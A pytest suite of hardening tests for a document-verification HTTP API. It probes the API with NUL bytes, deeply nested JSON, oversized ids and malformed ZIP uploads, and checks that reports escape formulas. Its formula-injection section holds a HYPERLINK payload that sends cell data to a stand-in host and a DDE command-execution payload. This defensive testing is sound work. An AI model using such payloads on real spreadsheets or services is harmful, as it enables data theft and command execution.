"""Hostile input to the HTTP API, as an independent probe sent it (issue 12): every one answers
a clear 4xx problem, never a 500, on SQLite and on this machine's PostgreSQL (which refuses NUL
in text and numbers past its integer column). Also: reports never carry a live formula, ZIP
entries get the content check uploads get, a ZIP of thousands of refused entries is answered
quickly, unit names are NFC from a manifest as from a ZIP, and an upload does not tell by its
timing whether another unit uploaded the same bytes.

Real app (TestClient), real stores, real generated PDFs; nothing under test is mocked.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import os
import time
import unicodedata
import zipfile

import pytest

from kiemchung.api.store import NotFound
from samples.render import render_pdf
from tests.helpers import (
    UNIT,
    Service,
    assert_problem,
    finished_batch,
    plan_spec,
    postgres_schema,
    service_settings,
    signed,
)

INT_MAX = 2**31 - 1                  # the id columns (INTEGER on PostgreSQL)
FORM = {"ruleset": "hue-2024", "year": "2024"}


@pytest.fixture(scope="module")
def pki():
    from samples.pki import DemoPKI

    return DemoPKI.create("hardening-tests")


def settled(running: Service) -> None:
    """Wait for the batches the tests left running: the local pool writes to the schema."""
    from sqlalchemy import select

    from kiemchung.api.store.tables import BatchRow, BatchStatus

    deadline = time.monotonic() + 300
    while time.monotonic() < deadline:
        with running.store.session() as session:
            if not session.scalars(select(BatchRow.id).where(
                    BatchRow.status != BatchStatus.DONE, BatchRow.total_items > 0)).first():
                return
        time.sleep(0.5)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def service(request, tmp_path_factory, pki):
    data_dir = tmp_path_factory.mktemp(f"hardening-{request.param}")
    if request.param == "sqlite":
        running = Service(service_settings(data_dir, pki))
        with running.client:
            yield running
            settled(running)
        running.store.close()
        return
    with postgres_schema(request.getfixturevalue("postgres_url")) as url:
        running = Service(service_settings(data_dir, pki, database_url=url))
        try:
            with running.client:
                assert running.store.engine.dialect.name == "postgresql"
                yield running
                settled(running)
        finally:
            running.store.close()


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def post_zip(service, data: bytes, role: str = "appraiser", **form):
    return service.client.post("/v1/batches", headers=service.auth(role),
                               files={"file": ("nop.zip", data, "application/zip")},
                               data={**FORM, **form})


def results(service, batch_id: str, role: str = "appraiser") -> list[dict]:
    response = service.client.get(f"/v1/batches/{batch_id}/results",
                                  headers=service.auth(role))
    assert response.status_code == 200, response.text
    return response.json()["items"]


# -- finding 4: 500s on hostile input --------------------------------------------------------

def test_a_zip_entry_flagged_utf8_whose_name_is_not_utf8_is_a_422(service):
    data = zip_of({f"{UNIT}/2.1/é.pdf": b"%PDF-1.7\n"})
    # zipfile set the UTF-8 flag for the non-ASCII name; break the name's bytes under it.
    broken = data.replace("é.pdf".encode(), b"\xff\xfe.pdf")
    assert broken.count(b"\xff\xfe.pdf") == 2          # local header and central directory
    assert_problem(post_zip(service, broken), 422, mentions="UTF-8")


@pytest.mark.parametrize("path", ["/v1/batches", "/v1/verdicts", "/v1/samples"])
def test_json_nested_100000_deep_is_a_422(service, path):
    body = b"[" * 100_000 + b"]" * 100_000
    response = service.client.post(path, headers={**service.auth("admin"),
                                                  "Content-Type": "application/json"},
                                   content=body)
    assert_problem(response, 422, mentions="nested too deeply")


@pytest.mark.parametrize("verdict_id", [INT_MAX + 1, 2**63, 10**30])
def test_ids_past_the_integer_column_are_422(service, verdict_id):
    auditor = service.auth("auditor")
    assert_problem(service.client.get(f"/v1/verdicts/{verdict_id}", headers=auditor), 422,
                   mentions="verdict_id")
    override = {"status": "pass", "points": 1, "reason": "checked by hand"}
    assert_problem(service.client.post(f"/v1/verdicts/{verdict_id}/overrides",
                                       headers=auditor, json=override), 422,
                   mentions="verdict_id")
    for path in ("/v1/flagged", "/v1/audit"):
        assert_problem(service.client.get(path, headers=auditor,
                                          params={"after_id": verdict_id}), 422,
                       mentions="after_id")
    # The largest id the column holds is a plain 404.
    assert_problem(service.client.get(f"/v1/verdicts/{INT_MAX}", headers=auditor), 404)


@pytest.mark.parametrize("path, params", [
    ("/v1/flagged", {"unit": "UBND\x00x"}), ("/v1/flagged", {"criterion": "2.1\x00"}),
    ("/v1/flagged", {"check": "\x00"}), ("/v1/audit", {"subject": "batch:\x00"}),
    ("/v1/audit", {"action": "a\x00"}), ("/v1/batches/ab%00cd", {}),
    ("/v1/batches/ab%00cd/report.csv", {}), ("/v1/batches/%00/results", {})])
def test_nul_in_query_values_and_path_ids_is_a_400(service, path, params):
    response = service.client.get(path, headers=service.auth("admin"), params=params)
    assert_problem(response, 400, mentions="NUL")


@pytest.mark.parametrize("field, value", [
    ("unit", "UBND\x00huyện"), ("criterion", "2.1\x00"), ("ruleset", "hue-2024\x00"),
    ("unit", "UBND\nhuyện")])
def test_control_characters_in_manifest_fields_are_422(service, field, value):
    item = {"unit": UNIT, "level": "huyen", "criterion": "2.1", "documents": []}
    body = {"ruleset": "hue-2024", "year": 2024, "items": [item]}
    (body if field == "ruleset" else item)[field] = value
    response = service.client.post("/v1/batches", headers=service.auth("portal"), json=body)
    assert_problem(response, 422, mentions=field)
    verify = {"ruleset": "hue-2024", "criterion": "2.1", "level": "huyen", "year": 2024,
              "unit": UNIT, field: value}
    response = service.client.post("/v1/verdicts", headers=service.auth("portal"), json=verify)
    assert_problem(response, 422, mentions=field)


def test_nul_in_an_override_reason_or_a_sample_filter_is_422(service):
    auditor = service.auth("auditor")
    assert_problem(service.client.post("/v1/samples", headers=auditor,
                                       json={"size": 1, "unit": "x\x00"}), 422,
                   mentions="unit")
    assert_problem(service.client.post("/v1/verdicts/1/overrides", headers=auditor, json={
        "status": "pass", "points": 1, "reason": "đúng\x00"}), 422, mentions="reason")


def raw_upload(service, filename: bytes, data: bytes, unit: bytes | None = None):
    """A multipart body written by hand: clients escape what this sends as it is."""
    boundary = b"hardening-boundary"
    parts = [b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; filename="'
             + filename + b'"\r\nContent-Type: application/pdf\r\n\r\n' + data + b"\r\n"]
    if unit is not None:
        parts.append(b"--" + boundary + b'\r\nContent-Disposition: form-data; name="unit"'
                     b"\r\n\r\n" + unit + b"\r\n")
    body = b"".join(parts) + b"--" + boundary + b"--\r\n"
    return service.client.post("/v1/documents", content=body, headers={
        **service.auth("portal"),
        "Content-Type": "multipart/form-data; boundary=" + boundary.decode()})


def test_nul_in_an_upload_name_or_its_unit_is_a_422(service):
    pdf = render_pdf(plan_spec(dt.date(2024, 2, 1), seed=31))
    assert_problem(raw_upload(service, b"ke\x00hoach.pdf", pdf), 422, mentions="file name")
    assert_problem(raw_upload(service, b"ke-hoach.pdf", pdf, unit=b"UBND\x00"), 422,
                   mentions="unit")
    with pytest.raises(NotFound):
        service.store.get_document(hashlib.sha256(pdf).hexdigest())


def test_a_zip_entry_with_nul_in_its_name_is_refused_not_stored(service):
    pdf = render_pdf(plan_spec(dt.date(2024, 2, 2), seed=32))
    # zipfile cuts a name at NUL when writing: put the NUL in the bytes it wrote.
    data = zip_of({f"{UNIT}/2.1/ke_hoach.pdf": pdf}).replace(b"ke_hoach.pdf", b"ke\x00hoach.pdf")
    accepted = post_zip(service, data)
    assert accepted.status_code == 202, accepted.text
    refused = [i for i in results(service, accepted.json()["batch_id"]) if i["state"] == "failed"]
    assert len(refused) == 1 and "control character" in refused[0]["error"]
    assert "\x00" not in refused[0]["error"]
    with pytest.raises(NotFound):
        service.store.get_document(hashlib.sha256(pdf).hexdigest())


def test_a_sample_seed_of_400_digits_is_422(service):
    response = service.client.post("/v1/samples", headers=service.auth("auditor"),
                                   json={"size": 1, "seed": int("9" * 400)})
    assert_problem(response, 422, mentions="seed")
    largest = service.client.post("/v1/samples", headers=service.auth("auditor"),
                                  json={"size": 1, "seed": 2**63 - 1})
    assert largest.status_code == 201, largest.text


# -- finding 6: formula injection in reports ---------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"bấm").pdf', "+1+2.pdf", "-3+4.pdf",
            "@SUM(1).pdf"]


def test_reports_carry_no_live_formula(service):
    from openpyxl import load_workbook

    pdf = render_pdf(plan_spec(dt.date(2024, 3, 1), seed=33))
    # Written by hand: clients escape the quotes; a hostile one does not. The slashes would
    # make it a path, so the name is the part after the last one: `?x="&A1,"bấm").pdf`.
    uploaded = raw_upload(service, FORMULAS[0].replace("https://evil.example/", "")
                          .encode(), pdf, unit=UNIT.encode())
    assert uploaded.status_code == 200, uploaded.text
    sha, name = uploaded.json()["sha256"], uploaded.json()["file"]
    assert name.startswith("=HYPERLINK(")
    unit = "=cmd|' /C calc'!A0"
    items = [{"unit": UNIT, "level": "huyen", "criterion": "2.1", "documents": [sha]},
             {"unit": unit, "level": "huyen", "criterion": "1.1", "documents": []}]
    for other in FORMULAS[1:]:          # the same bytes under more hostile names and units
        assert service.upload("portal", pdf, name=other, unit=other).status_code == 200
        items.append({"unit": other, "level": "huyen", "criterion": "2.1",
                      "documents": [sha]})
    accepted = service.client.post("/v1/batches", headers=service.auth("portal"),
                                   json={"ruleset": "hue-2024", "year": 2024, "items": items})
    assert accepted.status_code == 202, accepted.text
    batch_id = accepted.json()["batch_id"]
    finished_batch(service, batch_id, role="portal")

    report = service.client.get(f"/v1/batches/{batch_id}/report.csv",
                                headers=service.auth("portal"))
    cells = [cell for row in csv.reader(io.StringIO(report.content.decode("utf-8-sig")))
             for cell in row]
    assert "'" + name in cells and "'" + unit in cells and "'@SUM(1).pdf" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    book = load_workbook(io.BytesIO(service.client.get(
        f"/v1/batches/{batch_id}/report.xlsx", headers=service.auth("portal")).content))
    values = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert "'" + name in values and "'" + unit in values and "'-3+4.pdf" in values
    assert not [v for v in values if isinstance(v, str) and v[:1] in "=+-@\t\r"]


def test_every_report_writer_escapes_formulas_and_controls(tmp_path):
    """`kiemchung score --out` and `kiemchung batch --out` write through the same functions;
    a message quoting a document may hold a tab, a carriage return or a control character."""
    from openpyxl import load_workbook

    from kiemchung.verifier.reports import ReportRow, write_report

    rows = [ReportRow("\tUBND", "huyen", "2.1", "fail", 0, 10, "\r=1+1", ("@x.pdf",),
                      ("-check: a\x01b",))]
    write_report(tmp_path / "r.csv", rows, [])
    write_report(tmp_path / "r.xlsx", rows, [])
    text = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert cells[0] == "'\tUBND" and cells[6] == "'\r=1+1" and cells[7] == "'@x.pdf"
    sheet = load_workbook(tmp_path / "r.xlsx")["criteria"]
    values = [c.value for c in next(sheet.iter_rows(min_row=2))]
    assert values[0] == "'\tUBND" and values[6].startswith("'") and values[7] == "'@x.pdf"
    assert values[8] == "'-check: a\ufffdb"           # XLSX cannot hold \x01


# -- finding 7: ZIP entries get the content check ------------------------------------------------

def test_zip_entries_that_are_not_pdf_or_image_are_refused_and_not_stored(service):
    good = render_pdf(plan_spec(dt.date(2024, 4, 1), seed=34))
    bad = {"html.pdf": b"<!DOCTYPE html><html><body>login</body></html>",
           "empty.pdf": b"", "random.pdf": os.urandom(4096)}
    archive = {f"{UNIT}/2.1/{name}": data for name, data in bad.items()}
    archive[f"{UNIT}/1.2/ke-hoach.pdf"] = good
    accepted = post_zip(service, zip_of(archive))
    assert accepted.status_code == 202, accepted.text
    items = results(service, accepted.json()["batch_id"])
    errors = [i["error"] for i in items if i["state"] == "failed" and i["error"]]
    for name, reason in [("html.pdf", "HTML page"), ("empty.pdf", "empty"),
                         ("random.pdf", "not a PDF")]:
        assert any(name in e and reason in e for e in errors), (name, errors)
    for data in bad.values():
        sha = hashlib.sha256(data).hexdigest()
        with pytest.raises(NotFound):
            service.store.get_document(sha)
        assert not (service.store.data_dir / "blobs" / sha[:2] / sha[2:4] / sha).exists()
    service.store.get_document(hashlib.sha256(good).hexdigest())       # the good one is kept


# -- finding 8: thousands of refusals, NFC unit names ----------------------------------------------

def test_a_zip_of_3000_refused_entries_is_answered_quickly(service):
    from sqlalchemy import event

    archive = zip_of({f"{UNIT}/2.1/ghi-chu-{n}.txt": b"x" for n in range(3000)})
    commits = []
    listener = lambda _connection: commits.append(1)  # noqa: E731
    event.listen(service.store.engine, "commit", listener)
    began = time.monotonic()
    try:
        accepted = post_zip(service, archive)
    finally:
        took = time.monotonic() - began
        event.remove(service.store.engine, "commit", listener)
    assert accepted.status_code == 202, accepted.text
    # One transaction per refusal took 7 s on SQLite and 16-28 s on PostgreSQL (~1-2 s now,
    # on an idle machine): the refusals are written together.
    assert len(commits) < 20, f"{len(commits)} transactions for one batch"
    assert took < 60, f"{took:.1f} s for 3000 refused entries"   # a bound, not a speed test
    progress = service.client.get(f"/v1/batches/{accepted.json()['batch_id']}",
                                  headers=service.auth("appraiser")).json()
    assert progress["counts"]["failed"] >= 3000


def test_manifest_unit_names_are_nfc_like_zip_paths(service):
    nfd = unicodedata.normalize("NFD", UNIT)
    assert nfd != UNIT
    body = {"ruleset": "hue-2024", "year": 2024, "items": [
        {"unit": nfd, "level": "huyen", "criterion": "1.1", "documents": []}]}
    # The unit key of UNIT (typed in NFC) submits it: the same unit, not another one (403).
    accepted = service.client.post("/v1/batches", headers=service.auth("unit"), json=body)
    assert accepted.status_code == 202, accepted.text
    batch_id = accepted.json()["batch_id"]
    assert [i["unit"] for i in results(service, batch_id, "unit")] == [UNIT]
    zipped = post_zip(service, zip_of({f"{nfd}/2.1/ghi-chu.txt": b"x"}), role="unit")
    assert zipped.status_code == 202, zipped.text
    assert {i["unit"] for i in results(service, zipped.json()["batch_id"], "unit")} == {UNIT}


# -- finding 9: timing does not tell whether another unit uploaded the bytes --------------------

def test_an_upload_does_not_reveal_by_its_timing_that_another_unit_has_the_bytes(
        service, pki, monkeypatch):
    # A cached answer comes ~20x sooner than a reading (measured ~0.04 s against ~1 s): the
    # bytes only another unit uploaded must really be read again for this unit. The real
    # pipeline runs; the wrapper only counts its readings (timing itself belongs in the bench).
    import kiemchung.extractors.pipeline as pipeline

    readings = []
    real = pipeline.inspect_bytes

    def counted(*args, **kwargs):
        readings.append(args[1] if len(args) > 1 else kwargs.get("name"))
        return real(*args, **kwargs)

    monkeypatch.setattr(pipeline, "inspect_bytes", counted)
    plan = signed(plan_spec(dt.date(2024, 5, 6), seed=int(time.time()) % 1000 + 40), pki)
    first = service.upload("unit", plan, name="ke-hoach.pdf")
    assert first.status_code == 200, first.text
    assert len(readings) == 1
    again = service.upload("unit", plan, name="ke-hoach.pdf")      # our own bytes: cached
    assert again.status_code == 200 and len(readings) == 1
    other = service.client.post("/v1/documents", headers=service.auth("other_unit"),
                                files={"file": ("kh-khac.pdf", plan, "application/pdf")})
    assert other.status_code == 200, other.text
    assert readings[1:] == ["kh-khac.pdf"]       # read again, as new bytes would be
    assert other.json()["file"] == "kh-khac.pdf"
    assert {k: v for k, v in other.json().items() if k != "file"} == \
        {k: v for k, v in first.json().items() if k != "file"}


def test_unreadable_bytes_another_unit_uploaded_are_not_named_by_their_first_name(service):
    pdf = render_pdf(plan_spec(dt.date(2024, 5, 7), seed=41))
    truncated = pdf[: len(pdf) // 3]
    first = service.client.post("/v1/documents", headers=service.auth("unit"),
                                files={"file": ("bi-mat-cua-huyen.pdf", truncated,
                                                "application/pdf")})
    assert_problem(first, 422, mentions="bi-mat-cua-huyen.pdf")
    other = service.client.post("/v1/documents", headers=service.auth("other_unit"),
                                files={"file": ("cua-toi.pdf", truncated, "application/pdf")})
    problem = assert_problem(other, 422, mentions="cua-toi.pdf")
    assert "bi-mat" not in problem["detail"]
